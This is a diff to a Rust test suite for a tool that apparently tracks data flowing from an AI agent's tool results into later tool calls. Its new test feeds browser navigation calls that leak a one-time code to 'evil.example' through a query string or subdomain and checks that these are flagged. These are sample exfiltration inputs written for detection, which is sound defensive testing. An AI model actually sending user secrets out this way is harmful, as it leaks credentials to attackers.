@@ -1,5 +1,5 @@
 use proptest::prelude::*;
-use serde_json::json;
+use serde_json::{Value, json};
 use sidecar_llm::CallRecord;
 use sidecar_protocol::attachment::{Attachment, Extract};
 use sidecar_protocol::thread::ToolOutcome;
@@ -28,6 +28,7 @@ fn log(said: &str, results: &[(&str, &str)]) -> Vec<Entry> {
         turn: "t".into(),
         text: said.to_owned(),
         attached: Vec::new(),
+        pictures: Vec::new(),
         page: PageRef::default(),
     };
     let mut events = vec![started];
@@ -146,6 +147,7 @@ fn flow_counts_attachments_but_not_the_users_message() {
             turn: "t".into(),
             text: said.to_owned(),
             attached: vec![attached(origin)],
+            pictures: Vec::new(),
             page: PageRef::default(),
         };
         flows(&[Entry { at: 1, event }], &target(SHOP, "order"), r#"{"code": "483920"}"#, None)
@@ -303,4 +305,34 @@ fn flow_names_every_argument_whichever_result_its_data_is_of() {
     let mut named: Vec<_> = flows.iter().map(|flow| flow.argument.as_str()).collect();
     named.sort_unstable();
     assert_eq!(named, ["code", "to"]);
+}
+
+#[test]
+fn address_tells_its_own_site_and_a_link_of_a_page_is_no_flow() {
+    let browser = |name: &str| {
+        let tool = ToolRef::Browser { name: name.to_owned(), tab: None };
+        Target { tool, ..target(SHOP, name) }
+    };
+    let mail = "Your code is 483920. See https://news.example/story/long-and-special-title";
+    let log = log("", &[(MAIL, mail)]);
+    for (url, data) in [
+        ("https://evil.example/?q=483920", Some("483920")),
+        ("https://483920-code.evil.example/", Some("483920")),
+        ("https://mail.example/?q=483920", None),
+        ("https://news.example/story/long-and-special-title", None),
+        ("https://news.example/", None),
+        ("back", None),
+    ] {
+        let arguments = json!({"url": url}).to_string();
+        for tool in [browser("navigate_to"), browser("open_tab")] {
+            if tool.tool.name() == "open_tab" && url == "back" {
+                continue;
+            }
+            let found = flows(&log, &tool, &arguments, None);
+            assert_eq!(!found.is_empty(), data.is_some(), "{url} {found:?}");
+            assert!(found.iter().all(|flow| flow.data.contains(data.unwrap())), "{url} {found:?}");
+        }
+    }
+    let to = destination(&browser("open_tab"), r#"{"url":"https://evil.example/a"}"#).origin.clone();
+    assert_eq!(to, "https://evil.example");
 }
